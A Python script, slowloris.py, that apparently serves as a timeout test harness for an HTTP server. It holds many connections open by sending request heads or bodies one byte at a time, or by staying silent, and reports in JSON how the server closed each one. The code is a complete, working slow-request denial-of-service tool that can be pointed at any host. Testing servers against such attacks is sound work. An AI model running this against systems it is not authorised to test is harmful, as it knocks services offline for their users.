#!/usr/bin/python3
"""slowloris.py: hold connections open by sending requests very slowly.

    slowloris.py HOST PORT --conns N [--tls] [--servername NAME]
                 [--interval-ms 500] [--duration S] [--mode head|body|silent]
                 [--path /] [--content-length N] [--connect-timeout S]

An attacker, for the server's timeout tests: opens N connections (TLS with
--tls, certificate not verified; SNI is --servername or HOST; ALPN
http/1.1), then per connection, from the moment it is established:

  head    (default) sends a request head one byte per interval and never
          finishes it: the request line, Host, then "X-Slow-K: ..." fields
          forever, never the empty line.
  body    sends a whole head at once ("POST PATH" with Content-Length:
          --content-length, default 100000), then the body one byte per
          interval.
  silent  sends nothing at all; with --tls not even the ClientHello (a plain
          TCP connection to a TLS port: tests the handshake timeout).

Runs until --duration seconds (default 30) have passed or the server has
closed every established connection, then prints one JSON object on stdout:

  {"mode", "conns", "established", "failed", "closed_by_server",
   "open_at_end",
   "close_after_s": {"min", "median", "max"} or null,
                    seconds from establishment to the server's close
                    (EOF, reset or TLS alert), over the closed connections,
   "bytes_sent": {"min", "median", "max"} per connection,
   "responses": {"408": k, "none": j, ...}  what the server sent on each
                    established connection, closed or still open: the status
                    code of its (first) response, "other" for bytes that are
                    not HTTP/1.x, or "none" for nothing at all,
   "errors": {"ConnectionRefusedError": k, ...}  why connections failed,
   "elapsed_s"}

Exit status 0, or 1 when no connection could be established at all.
"""
import argparse
import asyncio
import itertools
import json
import resource
import ssl
import statistics
import sys


class Conn:
    def __init__(self):
        self.established = None     # loop time
        self.closed = None
        self.failed = None
        self.sent = 0
        self.received = b""


def head_bytes(host, path):
    yield from ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowloris\r\n"
                % (path, host)).encode()
    k = 0
    while True:
        yield from ("X-Slow-%d: %s\r\n" % (k, "a" * (k % 20 + 1))).encode()
        k += 1


def body_bytes():
    while True:
        yield from b"slow body "


def stats(values):
    if not values:
        return None
    return {"min": round(min(values), 3),
            "median": round(statistics.median(values), 3),
            "max": round(max(values), 3)}


async def watch(c, reader, loop):
    """Wait for the server to close; keep what it said first."""
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            if len(c.received) < 4096:
                c.received += data[:4096]
    except (OSError, ssl.SSLError, ConnectionError):
        pass
    if c.closed is None:
        c.closed = loop.time()


async def one(c, args, ctx, sem, loop, stop):
    sni = args.servername or args.host
    tls = ctx if args.tls and args.mode != "silent" else None
    try:
        async with sem:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(
                args.host, args.port, ssl=tls,
                server_hostname=sni if tls else None), args.connect_timeout)
    except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
        c.failed = type(e).__name__
        return
    c.established = loop.time()
    watcher = asyncio.ensure_future(watch(c, reader, loop))
    try:
        if args.mode == "head":
            source = head_bytes(sni, args.path)
        elif args.mode == "body":
            head = ("POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowloris\r\n"
                    "Content-Type: text/plain\r\nContent-Length: %d\r\n\r\n"
                    % (args.path, sni, args.content_length)).encode()
            writer.write(head)
            c.sent += len(head)
            source = itertools.islice(body_bytes(), args.content_length)
        else:
            source = None
        while c.closed is None and not stop.is_set():
            b = next(source, None) if source is not None else None
            if b is None:
                source = None       # silent, or the whole body is out
            else:
                writer.write(bytes((b,)))
                c.sent += 1
                await writer.drain()
            try:
                await asyncio.wait_for(asyncio.shield(watcher),
                                       args.interval_ms / 1000)
            except asyncio.TimeoutError:
                pass
    except (OSError, ssl.SSLError, ConnectionError):
        if c.closed is None:
            c.closed = loop.time()
    finally:
        watcher.cancel()
        writer.transport.abort()


async def run(args):
    loop = asyncio.get_running_loop()
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["http/1.1"])
    conns = [Conn() for _ in range(args.conns)]
    sem = asyncio.Semaphore(100)
    stop = asyncio.Event()
    start = loop.time()
    tasks = [asyncio.ensure_future(one(c, args, ctx, sem, loop, stop))
             for c in conns]
    deadline = start + args.duration
    while loop.time() < deadline:
        if all(t.done() for t in tasks):
            break
        await asyncio.sleep(0.05)
    end = loop.time()
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)

    est = [c for c in conns if c.established is not None]
    closed = [c for c in est if c.closed is not None and c.closed <= end]
    responses, errors = {}, {}
    for c in est:
        if c.received.startswith(b"HTTP/"):
            key = c.received[9:12].decode("latin-1")
        elif c.received:
            key = "other"
        else:
            key = "none"
        responses[key] = responses.get(key, 0) + 1
    for c in conns:
        if c.failed:
            errors[c.failed] = errors.get(c.failed, 0) + 1
    return {
        "mode": args.mode,
        "conns": args.conns,
        "established": len(est),
        "failed": len(conns) - len(est),
        "closed_by_server": len(closed),
        "open_at_end": len(est) - len(closed),
        "close_after_s": stats([c.closed - c.established for c in closed]),
        "bytes_sent": stats([c.sent for c in est]),
        "responses": responses,
        "errors": errors,
        "elapsed_s": round(end - start, 3),
    }


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main():
    p = argparse.ArgumentParser(
        description="Open connections and send requests one byte at a time.")
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--conns", type=int, required=True, help="connections")
    p.add_argument("--tls", action="store_true", help="speak TLS (unverified)")
    p.add_argument("--servername", help="SNI and Host (default: HOST)")
    p.add_argument("--interval-ms", type=float, default=500,
                   help="pause between bytes (default 500)")
    p.add_argument("--duration", type=float, default=30,
                   help="seconds to keep going (default 30)")
    p.add_argument("--mode", choices=("head", "body", "silent"), default="head")
    p.add_argument("--path", default="/", help="request target (default /)")
    p.add_argument("--content-length", type=int, default=100000,
                   help="declared body length in --mode body (default 100000)")
    p.add_argument("--connect-timeout", type=float, default=10,
                   help="seconds for TCP connect + TLS handshake (default 10)")
    args = p.parse_args()
    if args.conns < 1 or args.interval_ms <= 0 or args.duration <= 0:
        p.error("--conns, --interval-ms and --duration must be positive")
    raise_nofile()
    report = asyncio.run(run(args))
    print(json.dumps(report))
    return 0 if report["established"] else 1


if __name__ == "__main__":
    sys.exit(main())
